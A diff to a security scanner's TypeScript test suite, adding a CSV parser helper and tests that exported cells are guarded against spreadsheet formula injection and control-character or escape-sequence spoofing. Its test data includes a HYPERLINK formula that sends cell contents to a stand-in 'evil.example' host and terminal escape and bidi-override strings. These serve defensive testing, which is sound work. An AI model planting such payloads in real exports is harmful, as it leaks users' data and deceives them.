@@ -70,6 +70,39 @@ function hostileReport(evil: string): Report {
   };
 }
 
+/** Cells of an RFC 4180 text (CRLF rows, quoted cells with doubled quotes), as a spreadsheet reads them. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let i = 0;
+  while (i < text.length) {
+    let cell = '';
+    if (text[i] === '"') {
+      i++;
+      for (;;) {
+        const quote = text.indexOf('"', i);
+        cell += text.slice(i, quote);
+        i = quote + 1;
+        if (text[i] !== '"') break;
+        cell += '"';
+        i++;
+      }
+    } else {
+      const end = text.slice(i).search(/,|\r\n/);
+      cell = end === -1 ? text.slice(i) : text.slice(i, i + end);
+      i = end === -1 ? text.length : i + end;
+    }
+    row.push(cell);
+    if (text[i] === ',') i++;
+    else {
+      rows.push(row);
+      row = [];
+      i += 2;
+    }
+  }
+  return rows;
+}
+
 function sarifValidator(): Ajv.ValidateFunction {
   // The OASIS schema is draft-04; its only draft-04-specific keyword is the top-level `id`.
   const { $schema: _draft, id: _id, ...schema } = JSON.parse(readFileSync(path.join(ROOT, 'test/fixtures/sarif/sarif-schema-2.1.0.json'), 'utf8'));
@@ -462,8 +495,46 @@ describe('CSV', () => {
     expect(csvCell('a,b')).toBe('"a,b"');
     expect(csvCell('say "hi"')).toBe('"say ""hi"""');
     expect(csvCell('two\nlines')).toBe('"two\nlines"');
-    for (const formula of ['=HYPERLINK("x")', '+1', '-2', '@SUM(A1)', '\tx']) expect(csvCell(formula).replace(/^"/, '')).toMatch(/^'/);
+    for (const formula of ['=HYPERLINK("x")', '+1', '-2', '@SUM(A1)']) expect(csvCell(formula).replace(/^"/, '')).toMatch(/^'/);
+    expect(csvCell('=1+1')).toBe("'=1+1");
+    expect(csvCell('-1,2')).toBe(`"'-1,2"`);
+    // A tab or carriage return (the other two characters OWASP lists) cannot lead a cell: they are spelled out.
+    expect(csvCell('\t=1+1')).toBe('\\t=1+1');
+    expect(csvCell('\r=1+1')).toBe('\\r=1+1');
+    // A control character before the formula is spelled out, not dropped, so the formula never comes first.
+    expect(csvCell('\u0000=1+1')).toBe('\\u0000=1+1');
+    // Our own numbers (line, column) are never prefixed.
     expect(csvCell(42)).toBe('42');
+    expect(csvCell(-1)).toBe('-1');
+  });
+
+  it('keeps line feeds in quoted cells and spells out every other control character from the scanned files', () => {
+    expect(csvCell('two\r\nlines')).toBe('"two\nlines"');
+    expect(csvCell('a\rb\tc\u0000d\u001be\u007ff\u0085g\u202eh')).toBe('a\\rb\\tc\\u0000d\\u001be\\u007ff\\u0085g\\u202eh');
+    const hostile = hostileReport('vm01\r\u001b[8m\u001b]0;owned\u0007\u202ehidden\nfake line\u0000\u007f');
+    const spelled = 'vm01\\r\\u001b[8m\\u001b]0;owned\\u0007\\u202ehidden\nfake line\\u0000\\u007f';
+    for (const locale of ['en', 'ja'] as const) {
+      const csv = csvReport(hostile, RULES, locale);
+      // Rows end in CRLF; within them only the line feeds of quoted cells remain.
+      expect(controlCharacters(csv.replaceAll('\r\n', ''))).toEqual([]);
+      expect(csv).toContain(`"${spelled}"`);
+      expect(csv).not.toMatch(/(^|\r\n)fake line/);
+      // Every row still has one cell per column.
+      const rows = parseCsv(csv.slice(1));
+      expect(rows.length).toBeGreaterThan(10);
+      for (const row of rows) expect(row.length).toBe(17);
+    }
+  });
+
+  it('prefixes a cell from the scanned files that a spreadsheet would run as a formula', () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A1,"click")';
+    const csv = csvReport(hostileReport(formula), RULES, 'en');
+    const rows = parseCsv(csv.slice(1));
+    const resourceName = rows[0]!.indexOf('resourceName');
+    const message = rows[0]!.indexOf('message');
+    expect(rows.slice(1).every((row) => row[resourceName] === `'${formula}`)).toBe(true);
+    expect(rows.slice(1).some((row) => row[message] === `'${formula}`)).toBe(true);
+    expect(rows.slice(1).some((row) => row.some((cell) => cell.startsWith('=')))).toBe(false);
   });
 
   it('has a header and CRLF rows, one per finding or check', () => {
